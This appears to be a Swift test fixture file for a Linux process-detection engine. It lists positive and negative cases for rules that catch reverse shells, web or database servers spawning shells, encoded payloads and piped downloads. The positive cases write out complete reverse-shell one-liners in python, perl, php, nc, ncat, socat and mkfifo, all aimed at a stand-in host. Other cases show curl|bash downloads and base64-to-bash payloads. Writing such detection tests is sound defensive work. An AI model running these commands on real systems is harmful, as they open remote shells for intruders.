import MamoriEvents

extension Fixtures {
    static let execution: [RuleFixture] = [
        RuleFixture("reverse-shell-socket-stdio",
            positives: [
                Case("exploited service: bash -i wired to a TCP socket by a python one-liner",
                     Actor(Proc("/usr/bin/bash", ["bash", "-i"], uid: 998),
                           in: Trees.unit("app.service", Proc("/opt/app/bin/server", ["/opt/app/bin/server", "--listen", ":8080"], uid: 998))
                                .spawning(Proc("/usr/bin/python3.12", ["python3", "-c", "exec(input())"], uid: 998)))
                        .exec(stdin: .socket, stdout: .socket, stderr: .socket),
                     also: ["interpreter-inline-code-spawns-shell"]),
                Case("cron-planted job: sh with only stdin on a socket (nc -e style)",
                     Actor(Proc("/usr/bin/dash", ["sh"]), in: Trees.cronJob("/var/tmp/u").spawning(Proc.line("/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444")))
                        .exec(stdin: .socket, stdout: .fifo)),
            ],
            negatives: [
                Case("sshd runs a non-interactive command over its socket pair",
                     Actor(Proc("/usr/bin/bash", ["bash", "-c", "uptime"], uid: 1000), in: Tree([Trees.sshdSession, Trees.sshd, Trees.systemd]))
                        .exec(stdin: .socket, stdout: .socket)),
                Case("a script started by a non-interactive SSH command inherits the socket pair",
                     Actor(Proc("/usr/bin/bash", ["bash", "deploy/migrate.sh"], uid: 1000),
                           in: Tree([Proc.shell("cd /srv/app && ./deploy.sh", exe: "/usr/bin/bash", uid: 1000), Trees.sshdSession, Trees.sshd, Trees.systemd]))
                        .exec(stdin: .socket, stdout: .socket, stderr: .socket)),
                Case("Node.js child_process.exec (libuv socket pairs)",
                     Actor(Proc.shell("git rev-parse HEAD", uid: 999), in: Trees.unit("app.service", Proc("/usr/bin/node", ["node", "/srv/app/server.js"], uid: 999)))
                        .exec(stdin: .socket, stdout: .socket, stderr: .socket)),
                Case("interactive login shell on a terminal",
                     Actor(Proc("/usr/bin/bash", ["bash"], uid: 1000), in: Trees.userLogin).exec()),
            ]),

        RuleFixture("web-server-spawns-shell",
            positives: [
                Case("PHP-FPM worker runs sh -c (web shell)", Actor(Proc.shell("id; uname -a", uid: 33), in: Trees.phpFpm).exec(stdin: .fifo, stdout: .fifo)),
                Case("nginx worker ancestry", Actor(Proc("/usr/bin/bash", ["bash", "-c", "cat /etc/passwd"], uid: 33), in: Trees.nginx).exec(stdin: .fifo, stdout: .fifo)),
                Case("Tomcat (Java) spawns a shell",
                     Actor(Proc.shell("whoami", uid: 997),
                           in: Tree([Proc("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-classpath", "/usr/share/tomcat10/bin/bootstrap.jar", "org.apache.catalina.startup.Bootstrap", "start"], unit: "tomcat10.service", uid: 997), Trees.systemd]))
                        .exec(stdin: .fifo, stdout: .fifo)),
            ],
            negatives: [
                Case("PHP mail() pipes to sendmail through sh", Actor(Proc.shell("/usr/sbin/sendmail -t -i", uid: 33), in: Trees.phpFpm).exec(stdin: .fifo, stdout: .fifo)),
                Case("apachectl is a shell script started by systemd in apache2.service",
                     Actor(Proc("/usr/bin/dash", ["/bin/sh", "/usr/sbin/apachectl", "start"], unit: "apache2.service"), in: Tree([Trees.systemd])).exec(stdin: .closed, stdout: .fifo)),
            ]),

        RuleFixture("database-spawns-shell",
            positives: [
                Case("COPY ... TO PROGRAM runs a shell", Actor(Proc.shell("id > /var/lib/postgresql/out", uid: 115), in: Trees.postgres).exec(stdin: .fifo, stdout: .fifo)),
                Case("shell nested under the shell of a MySQL UDF",
                     Actor(Proc("/usr/bin/bash", ["bash"], uid: 116),
                           in: Tree([Proc.shell("bash", uid: 116), Proc("/usr/sbin/mysqld", ["/usr/sbin/mysqld"], unit: "mysql.service", uid: 116), Trees.systemd]))
                        .exec(stdin: .fifo, stdout: .fifo)),
            ],
            negatives: [
                Case("WAL archive_command copies a segment",
                     Actor(Proc.shell("test ! -f /mnt/server/archivedir/00000001000000000000000A && cp pg_wal/00000001000000000000000A /mnt/server/archivedir/00000001000000000000000A", uid: 115),
                           in: Trees.postgres).exec(stdin: .fifo, stdout: .fifo)),
                Case("pg_ctl starts the postmaster through sh -c exec",
                     Actor(Proc.shell("exec \"/usr/lib/postgresql/15/bin/postgres\" -D \"/var/lib/postgresql/15/main\"", uid: 115),
                           in: Tree([Proc("/usr/lib/postgresql/15/bin/pg_ctl", ["/usr/lib/postgresql/15/bin/pg_ctl", "start", "-D", "/var/lib/postgresql/15/main"], unit: "postgresql@15-main.service", uid: 115),
                                     Proc("/usr/bin/perl", ["/usr/bin/perl", "/usr/bin/pg_ctlcluster", "--skip-systemctl-redirect", "15-main", "start"], unit: "postgresql@15-main.service", uid: 115),
                                     Trees.systemd])).exec(stdin: .closed, stdout: .fifo)),
            ]),

        RuleFixture("interpreter-inline-socket-shell",
            positives: [
                Case("python socket + dup2 + subprocess",
                     Actor(Proc("/usr/bin/python3.12", ["python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])"], uid: 33),
                           in: Trees.webShell).exec(stdin: .fifo, stdout: .fifo)),
                Case("perl IO::Socket one-liner",
                     Actor(Proc("/usr/bin/perl", ["perl", "-e", "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};"]),
                           in: Trees.rootLogin).exec()),
                Case("php fsockopen one-liner",
                     Actor(Proc("/usr/bin/php8.2", ["php", "-r", "$sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"]), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("python resolves its host name", Actor(Proc("/usr/bin/python3.12", ["python3", "-c", "import socket; print(socket.gethostname())"]), in: Trees.rootLogin).exec()),
                Case("python one-liner probes a port, then restarts a service",
                     Actor(Proc("/usr/bin/python3.12", ["python3", "-c", "import socket,subprocess; socket.create_connection((\"db\",5432),2); subprocess.run([\"systemctl\",\"restart\",\"app\"])"]), in: Trees.rootLogin).exec()),
                Case("python script (not inline) using sockets and subprocess",
                     Actor(Proc("/usr/bin/python3.12", ["python3", "/opt/app/socket_subprocess_worker.py"]), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("network-tool-serves-shell",
            positives: [
                Case("nc -e /bin/sh", Actor(Proc.line("/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444"), in: Trees.rootLogin).exec()),
                Case("ncat --sh-exec", Actor(Proc.line("/usr/bin/ncat", "ncat -lvp 4444 --sh-exec bash"), in: Trees.rootLogin).exec()),
                Case("socat exec:bash to a TCP address",
                     Actor(Proc("/usr/bin/socat", ["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", "tcp:203.0.113.7:4444"]), in: Trees.rootLogin).exec()),
                Case("mkfifo relay through nc",
                     Actor(Proc.shell("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", uid: 33), in: Trees.nginx).exec(stdin: .fifo, stdout: .fifo),
                     also: ["web-server-spawns-shell"]),
            ],
            negatives: [
                Case("nc port probe", Actor(Proc.line("/usr/bin/nc.openbsd", "nc -zv db01 5432"), in: Trees.rootLogin).exec()),
                Case("socat to a local admin socket", Actor(Proc.line("/usr/bin/socat", "socat - UNIX-CONNECT:/run/haproxy/admin.sock"), in: Trees.rootLogin).exec()),
                Case("mkfifo used for a compression pipe", Actor(Proc.shell("mkfifo /tmp/p; gzip -c < /tmp/p > /backup/x.gz"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("encoded-payload-to-shell",
            positives: [
                Case("echo | base64 -d | bash", Actor(Proc.shell("echo aWQ7dW5hbWUgLWEK | base64 -d | bash"), in: Trees.rootLogin).exec(), also: ["decoded-payload-in-shell-command"]),
                Case("python exec(base64.b64decode(...))",
                     Actor(Proc("/usr/bin/python3.12", ["python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))"]), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("certificate decoded into a file", Actor(Proc.shell("echo \"$CERT\" | base64 -d > /etc/ssl/certs/site.pem"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("download-piped-to-shell",
            positives: [
                Case("curl | bash", Actor(Proc.shell("curl -fsSL http://203.0.113.7/x.sh | bash", exe: "/usr/bin/bash"), in: Trees.rootLogin).exec()),
                Case("wget -O- | sudo sh", Actor(Proc.shell("wget -qO- https://get.example.net/i | sudo -E sh", uid: 1000), in: Trees.userLogin).exec()),
            ],
            negatives: [
                Case("curl | gpg --dearmor", Actor(Proc.shell("curl -fsSL https://download.docker.com/linux/ubuntu/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg"), in: Trees.rootLogin).exec()),
                Case("curl | shasum", Actor(Proc.shell("curl -fsSL https://example.org/app.tgz | shasum -a 256"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("python-pty-upgrade",
            positives: [
                Case("pty.spawn bash", Actor(Proc("/usr/bin/python3.12", ["python3", "-c", "import pty; pty.spawn(\"/bin/bash\")"], uid: 33), in: Trees.webShell).exec(stdin: .fifo, stdout: .fifo)),
            ],
            negatives: [
                Case("python prints a pty constant", Actor(Proc("/usr/bin/python3.12", ["python3", "-c", "import pty; print(pty.STDIN_FILENO)"]), in: Trees.rootLogin).exec()),
            ]),
    ]
}
